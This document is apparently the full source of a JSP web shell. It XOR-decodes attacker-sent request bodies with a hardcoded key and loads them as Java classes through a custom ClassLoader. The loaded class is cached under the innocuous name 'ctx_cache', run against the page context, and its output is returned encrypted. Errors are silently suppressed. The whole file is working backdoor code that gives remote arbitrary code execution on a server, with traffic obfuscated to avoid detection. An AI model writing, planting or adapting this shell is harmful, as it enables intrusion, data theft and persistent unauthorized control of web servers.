<%! String k = "3c6e0b8a9c15224a";
class Y extends ClassLoader { Y(ClassLoader p) { super(p); } public Class d(byte[] b) { return defineClass(b, 0, b.length); } }
public byte[] xr(byte[] s) { byte[] kb = k.getBytes(); for (int i = 0; i < s.length; i++) { s[i] = (byte) (s[i] ^ kb[(i + 1) & 15]); } return s; }
%><%
try {
    int len = request.getContentLength();
    byte[] buf = new byte[len];
    int got = 0;
    java.io.InputStream in = request.getInputStream();
    while (got < len) { int n = in.read(buf, got, len - got); if (n < 0) break; got += n; }
    byte[] data = xr(buf);
    Object cached = application.getAttribute("ctx_cache");
    if (cached == null) {
        application.setAttribute("ctx_cache", new Y(this.getClass().getClassLoader()).d(data));
    } else {
        request.setAttribute("parameters", data);
        java.io.ByteArrayOutputStream bo = new java.io.ByteArrayOutputStream();
        Object inst = ((Class) cached).newInstance();
        inst.equals(bo);
        inst.equals(pageContext);
        inst.toString();
        response.getOutputStream().write(xr(bo.toByteArray()));
    }
} catch (Exception e) {}
%>
